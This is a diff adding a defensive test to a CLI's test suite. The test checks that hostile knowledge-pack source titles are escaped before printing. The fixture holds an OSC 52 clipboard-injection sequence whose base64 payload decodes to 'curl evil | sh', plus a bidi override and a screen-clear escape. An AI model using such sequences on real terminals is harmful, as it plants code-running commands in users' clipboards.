@@ -660,3 +660,44 @@ def test_export_signature_helpers_roundtrip() -> None:
     assert isinstance(sig, dict)
     sig["public_key"] = base64.b64encode(b"short").decode()
     assert fmt.check_signature(doc).status == "invalid"
+
+
+def test_ask_with_pack_shows_hostile_source_titles_escaped(tmp_path: Path) -> None:
+    """ask --pack with a reference titled with OSC 52 and a bidi override (real model): the
+    Sources line and the streamed answer carry no control byte."""
+    init()
+    pack = {
+        "id": "demo",
+        "name": "Demo",
+        "version": "1.0.0",
+        "description": "d",
+        "author": "a",
+        "license": "CC0-1.0",
+        "language": "en",
+        "system_prompt": "You help.",
+        "disclaimer": "x",
+        "references": [
+            {
+                "id": "warfarin",
+                "title": "Warfarin \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u202edose",
+                "source": "Leaflet \x1b[2J",
+                "text": "Warfarin dose is set by the INR blood test. Warfarin tablets.",
+            }
+        ],
+    }
+    path = tmp_path / "demo.toml"
+    path.write_text(tomli_w.dumps(pack))
+    assert cli("packs", "import", str(path), "--yes")[0] == 0
+    code, out, err = cli(
+        "ask",
+        "--pack",
+        "demo",
+        "--max-tokens",
+        "4",
+        "--temperature",
+        "0",
+        "What is the warfarin dose and INR?",
+    )
+    assert code == 0, err
+    assert "Sources:" in out and "\\x1b]52" in out, out
+    assert unsafe_in(out) == [] and unsafe_in(err) == []
